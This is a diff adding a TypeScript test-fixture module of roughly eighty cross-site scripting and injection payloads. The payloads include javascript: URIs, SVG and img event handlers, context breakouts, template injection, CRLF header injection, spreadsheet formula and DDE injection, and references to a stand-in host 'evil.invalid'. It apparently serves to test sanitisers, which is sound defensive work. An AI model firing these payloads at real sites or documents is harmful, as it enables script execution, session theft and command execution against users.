@@ -1,0 +1,98 @@
+/** What each of them calls when it runs. */
+export const MARKER = 'zcRan'
+const RUN = `${MARKER}()`
+/** Nobody is there: a request for it is a payload at work. */
+export const FOREIGN = 'evil.invalid'
+
+/** Worth something only where it is the whole value, or the beginning of it. */
+export const ALONE: string[] = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}//`,
+  `java\tscript:${RUN}`,
+  `\u0001javascript:${RUN}`,
+  `javascript&colon;${RUN}`,
+  `vbscript:${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `data:text/html;base64,PHNjcmlwdD56Y1JhbigpPC9zY3JpcHQ+`,
+  `//${FOREIGN}/x.js`,
+  `https://${FOREIGN}/"onmouseover="${RUN}`,
+  `/\\${FOREIGN}`,
+  `=HYPERLINK("http://${FOREIGN}","x")`,
+  `=cmd|'/c calc'!A1`,
+  `+${RUN}`,
+  `-2+3+${RUN}`,
+  `@SUM(1+1)*${RUN}`,
+  `\t=1+1`,
+  `＝1+1`,
+]
+
+/** Ends whatever script its words are handed over in: every field that has room for it gets this one first. */
+export const BREAKOUT = `</script><svg onload=${RUN}>`
+
+/** Works wherever it stands. */
+export const ANYWHERE: string[] = [
+  `<svg onload=${RUN}>`,
+  `<script>${RUN}</script>`,
+  `<img src=x onerror=${RUN}>`,
+  BREAKOUT,
+  `</script><script>${RUN}</script>`,
+  `"><svg onload=${RUN}>`,
+  `'><svg onload=${RUN}>`,
+  `" onfocus=${RUN} autofocus x="`,
+  `' onfocus=${RUN} autofocus x='`,
+  `\` onfocus=${RUN} autofocus x=\``,
+  `<a href="javascript:${RUN}">a</a>`,
+  `<a href="java&#9;script:${RUN}">a</a>`,
+  `<iframe src="javascript:${RUN}">`,
+  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
+  `<body onload=${RUN}>`,
+  `<details open ontoggle=${RUN}>`,
+  `<video><source onerror=${RUN}>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<math><mtext></mtext><script>${RUN}</script></math>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text>a</text></a></svg>`,
+  `<object data="javascript:${RUN}">`,
+  `<embed src="javascript:${RUN}">`,
+  `<base href="https://${FOREIGN}/">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
+  `<link rel=stylesheet href="https://${FOREIGN}/x.css">`,
+  `<style>@import "https://${FOREIGN}/x.css";</style>`,
+  `<p style="background:url(https://${FOREIGN}/x.png)">`,
+  `<form action="javascript:${RUN}"><button>a</button></form>`,
+  `<template><script>${RUN}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<textarea></textarea><svg onload=${RUN}>`,
+  `</title><svg onload=${RUN}>`,
+  `</style><svg onload=${RUN}>`,
+  `--><svg onload=${RUN}>`,
+  `<!--><svg onload=${RUN}>-->`,
+  `]]><svg onload=${RUN}>`,
+  `<![CDATA[<script>${RUN}</script>]]>`,
+  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
+  `&lt;svg onload=${RUN}&gt;`,
+  `&#60;script&#62;${RUN}&#60;/script&#62;`,
+  `&amp;lt;script&amp;gt;`,
+  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
+  `\u2028${RUN}\u2029`,
+  `＜script＞${RUN}＜/script＞`,
+  `<scr\u200bipt>${RUN}</scr\u200bipt>`,
+  `<ſcript>${RUN}</ſcript>`,
+  `{{constructor.constructor('${RUN}')()}}`,
+  `\${${RUN}}`,
+  `<%= ${RUN} %>`,
+  `'-${RUN}-'`,
+  `\\'-${RUN}//`,
+  `[a](javascript:${RUN})`,
+  `[a](<java\nscript:${RUN}>)`,
+  `![a](x"onerror="${RUN})`,
+  `<javascript:${RUN}>`,
+  `\r\nX-Injected: ${RUN}`,
+  `%0d%0aSet-Cookie: a=${RUN}`,
+  `\nATTACH:javascript:${RUN}\nEND:VEVENT`,
+  `;ALTREP="javascript:${RUN}":x`,
+  `</w:t></w:r><w:instrText>DDEAUTO</w:instrText><w:r><w:t>`,
+  `</dc:creator><script>${RUN}</script>`,
+]
+
+export const PAYLOADS: string[] = [...ALONE, ...ANYWHERE]
